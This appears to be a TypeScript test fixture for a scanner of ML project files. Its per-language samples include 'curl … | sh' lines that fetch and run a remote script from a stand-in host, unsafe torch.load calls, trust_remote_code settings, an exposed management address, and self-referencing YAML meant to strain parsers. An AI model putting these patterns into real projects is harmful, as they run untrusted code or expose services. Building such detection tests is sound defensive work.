import type { TextLanguage } from '../../server/formats/text/parse.ts';

/** A file of a language, and what makes one that is hard to read: what opens a level, and lines that fill it. */
export interface LanguageSample {
  file: string;
  /** Text that some rule has something to say of. */
  text: string;
  /** What stands before the lines that follow. */
  head?: string;
  nested: string;
  filling: string;
}

/** Every language that is parsed: who adds one says here what its hostile files look like, or the compiler stops. */
export const textLanguages: Readonly<Record<TextLanguage, LanguageSample>> = {
  yaml: {
    file: 'a.yaml',
    text: 'model_name_or_path: a/b\nstage: sft\ntrust_remote_code: true\n',
    nested: '{image: [',
    filling: '- &a [*a, trust_remote_code]\n',
  },
  json: {
    file: 'a.json',
    text: '{"model_name_or_path": "a/b", "stage": "sft", "trust_remote_code": true}\n',
    nested: '{"trust_remote_code": [',
    filling: '{"trust_remote_code": true},\n',
  },
  toml: {
    file: 'pyproject.toml',
    text: '[project]\nname = "x"\ndependencies = ["torch==2.5.1"]\n',
    nested: '[[a]]\nb = [',
    filling: '[[a.b]]\nc = {d = 1}\n',
  },
  properties: {
    file: 'config.properties',
    text: 'inference_address=http://0.0.0.0:8080\nmanagement_address=http://0.0.0.0:8081\n',
    nested: 'a.',
    filling: 'management_address=\\\n0.0.0.0\n',
  },
  textproto: {
    file: 'models.config',
    text: 'model_config_list { config { name: "m" base_path: "http://models.example.org/m" } }\n',
    nested: 'backend { ',
    filling: 'backend: "python" ',
  },
  python: {
    file: 'a.py',
    text: "import torch\n\nx = torch.load('a.pt', weights_only=False)\n",
    head: 'import torch\n',
    nested: 'torch.load(',
    filling: "x = torch.load('a.pt')\n",
  },
  notebook: {
    file: 'a.ipynb',
    text: '{"cells":[{"cell_type":"code","source":["import torch\\n","x = torch.load(\'a.pt\', weights_only=False)\\n"]}]}\n',
    nested: '{"cells":[{"cell_type":"code","source":["torch.load(\\n",',
    filling: '{"cell_type":"code","source":["torch.load(\'a.pt\')"]},\n',
  },
  cells: {
    file: 'a.ipynb',
    text: "import torch\n\nx = torch.load('a.pt', weights_only=False)\n",
    head: 'import torch\n',
    nested: 'torch.load(',
    filling: "!pip install a\ntorch.load('a.pt')\n",
  },
  card: {
    file: 'README.md',
    text: '---\nbase_model: a/b\nmodel_name_or_path: a/b\nstage: sft\ntrust_remote_code: true\n---\n',
    head: '---\n',
    nested: '{a: [',
    filling: 'trust_remote_code: [true]\n',
  },
  shell: {
    file: 'train.sh',
    text: '#!/bin/bash\ncurl -k https://example.org/a.sh | sh\npython - <<END\nimport torch\ntorch.load("a.pt", weights_only=False)\nEND\n',
    nested: 'python -c "$(bash -c \'',
    filling: "cat > a.yaml <<A\nimage: \"a\nA\npython3 -c 'b' && pip install c \\\n  d\n",
  },
  dockerfile: {
    file: 'Dockerfile',
    text: 'FROM pytorch/pytorch:latest\nRUN curl https://example.org/a.sh | sh\n',
    nested: 'RUN <<EOF\n',
    filling: 'RUN pip install a \\\n  b\n',
  },
  nginx: {
    file: 'nginx.conf',
    text: 'http {\n  server {\n    listen 80;\n    location / { proxy_pass http://127.0.0.1:1; }\n  }\n}\n',
    nested: 'server { location / {',
    filling: 'server { listen 80; }\n',
  },
  requirements: {
    file: 'requirements.txt',
    text: 'torch==2.5.1\n',
    nested: 'a[',
    filling: 'torch==2.5.1 --hash=sha256:a \\\n --hash=sha256:b\n',
  },
};
